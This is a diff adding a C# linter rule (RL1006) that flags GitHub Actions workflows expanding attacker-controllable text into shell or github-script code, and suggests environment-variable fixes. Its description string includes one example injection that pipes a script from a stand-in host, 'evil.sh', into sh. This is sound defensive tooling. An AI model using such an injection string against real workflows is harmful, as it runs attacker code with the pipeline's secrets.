@@ -1,0 +1,98 @@
+using System.Text.RegularExpressions;
+using ReleaseLint.Inputs;
+using ReleaseLint.Inputs.Workflows;
+using ReleaseLint.Inputs.Workflows.Expressions;
+using ReleaseLint.Inputs.Yaml;
+
+namespace ReleaseLint.Rules.Workflows;
+
+/// <summary>RL1006: attacker-controllable text expanded with <c>${{ }}</c> into a script.</summary>
+public sealed partial class RL1006TemplateInjection : WorkflowRule
+{
+    /// <summary>The rule's metadata.</summary>
+    public static readonly RuleDescriptor Rule = new("RL1006", "template-injection",
+        "Untrusted text expanded into a script",
+        "An attacker-controllable value (issue, pull request, comment and commit text, branch names such as github.head_ref, untyped inputs, or step, job and env values derived from them) expanded with ${{ }} inside a run: script or the script: of actions/github-script. GitHub pastes the value into the script before it runs, so a title like a\"; curl evil.sh | sh; \" runs as code with the job's secrets and token. Numbers, SHAs, ids, logins, step outcomes and ternaries of literals are known to be safe and are not reported.",
+        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8);
+
+    /// <inheritdoc />
+    public override RuleDescriptor Descriptor => Rule;
+
+    /// <inheritdoc />
+    protected override bool IncludesActions => true;
+
+    /// <inheritdoc />
+    protected override void CheckWorkflow(RuleContext context, WorkflowFile workflow)
+    {
+        foreach (var job in workflow.Jobs)
+            foreach (var step in job.Steps)
+                CheckStep(context, workflow.Source, step, ExpressionScope.ForWorkflow(workflow, job, step), $"job:{job.Id}/step:{step.StableLabel}", $"step {Quote(step)} of job '{job.Id}'", "workflow");
+    }
+
+    /// <inheritdoc />
+    protected override void CheckAction(RuleContext context, ActionFile action)
+    {
+        foreach (var step in action.Steps)
+            CheckStep(context, action.Source, step, ExpressionScope.ForAction(action, step), $"step:{step.StableLabel}", $"step {Quote(step)}", "action");
+    }
+
+    private static string Quote(WorkflowStep step) => step.Id ?? (step.Name is { } n ? $"\"{n}\"" : step.Label);
+
+    private static void CheckStep(RuleContext context, SourceText source, WorkflowStep step, ExpressionScope scope, string place, string where, string callerKind)
+    {
+        if (step.Run is { } run) Check(context, source, run, scope, place, where, "run: script", shell: true, callerKind);
+        if (step.UsesAction("actions/github-script") && step.WithInput("script") is { } script)
+            Check(context, source, script, scope, place, where, "github-script script:", shell: false, callerKind);
+    }
+
+    private static void Check(RuleContext context, SourceText source, YamlScalar script, ExpressionScope scope, string place, string where, string what, bool shell, string callerKind)
+    {
+        foreach (var expression in ExpressionTemplate.Scan(script.Value))
+        {
+            if (expression.Node is null) continue;
+            var untrusted = ExpressionTaint.Find(expression.Node, scope);
+            if (untrusted.Count == 0) continue;
+            var first = untrusted.FirstOrDefault(u => u.Origin == ValueOrigin.AttackerControlled) ?? untrusted[0];
+            var written = expression.Raw;
+            var origin = Describe(first, callerKind);
+            var variable = VariableName(first.Node.ContextPath(preserveCase: true) ?? first.Source);
+            var inner = expression.Text.Trim();
+            var isEnv = expression.Node is { } n && WorkflowConditions.Unwrap(n).ContextPath() is { } envPath && envPath.StartsWith("env.", StringComparison.Ordinal);
+            var fix = isEnv
+                ? shell ? $"use the environment variable itself: \"${variable}\"" : $"read process.env.{variable} instead"
+                : shell
+                ? $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and use \"${variable}\""
+                : $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and read process.env.{variable}";
+            context.Report(expression.Locate(script, source),
+                $"'{written}' in the {what} of {where} expands {origin} into the {(shell ? "shell script" : "JavaScript")} before it runs; {fix}",
+                $"{place}|{written}");
+        }
+    }
+
+    private static string Describe(UntrustedValue value, string callerKind)
+    {
+        var who = value.Origin == ValueOrigin.AttackerControlled
+            ? "attacker-controlled text"
+            : $"a value the caller of this {callerKind} controls";
+        return value.Via.Length > 0
+            ? $"{who} ({value.Via})"
+            : $"{who} ({value.Source})";
+    }
+
+    [GeneratedRegex("[^A-Za-z0-9]+")]
+    private static partial Regex NonWord();
+
+    private static string VariableName(string path)
+    {
+        var parts = path.Split('.', StringSplitOptions.RemoveEmptyEntries).Where(p => p != "*").ToArray();
+        if (parts.Length == 0) return "VALUE";
+        var last = parts[^1];
+        // env.X is already a variable; outputs and generic leaves read better with their owner.
+        if (parts[0].Equals("env", StringComparison.OrdinalIgnoreCase) && parts.Length == 2) return NonWord().Replace(last, "_").ToUpperInvariant();
+        var owner = parts.Length >= 3 ? parts[^2] : "";
+        if (owner is "outputs" or "inputs" && parts.Length >= 4) owner = parts[^3];
+        var name = last is "title" or "body" or "message" or "ref" or "name" or "email" or "label" && owner.Length > 0 ? owner + "_" + last : last;
+        name = NonWord().Replace(name, "_").Trim('_').ToUpperInvariant();
+        return name.Length == 0 ? "VALUE" : char.IsAsciiDigit(name[0]) ? "V_" + name : name;
+    }
+}
